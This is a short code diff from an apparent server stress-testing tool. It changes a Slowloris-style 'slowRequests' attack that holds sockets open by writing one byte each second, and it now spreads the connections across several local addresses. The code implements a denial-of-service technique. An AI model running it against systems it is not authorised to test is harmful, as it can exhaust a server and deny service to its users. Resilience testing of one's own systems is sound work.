@@ -1,5 +1,5 @@
 import { connect } from 'node:net'
-import { note, repeat, type Attack } from './attack.js'
+import { byLane, note, repeat, type Attack } from './attack.js'
 import { isOpen, openSocket, untilClosed } from './socket.js'
 
 /** As many sockets at once as are let in. */
@@ -14,7 +14,7 @@ export const slowRequests: Attack = async (tools) => repeat(tools, () => new Pro
   const { hostname, port } = new URL(tools.target.url)
   tools.tally.tries += 1
   const began = performance.now()
-  const socket = connect({ host: hostname, port: Number(port), localAddress: tools.target.address })
+  const socket = connect({ host: hostname, port: Number(port), localAddress: byLane(tools.target.addresses, 0) })
   const drip = setInterval(() => socket.write(' '), 1_000)
   const end = () => socket.destroy()
   tools.signal.addEventListener('abort', end, { once: true })
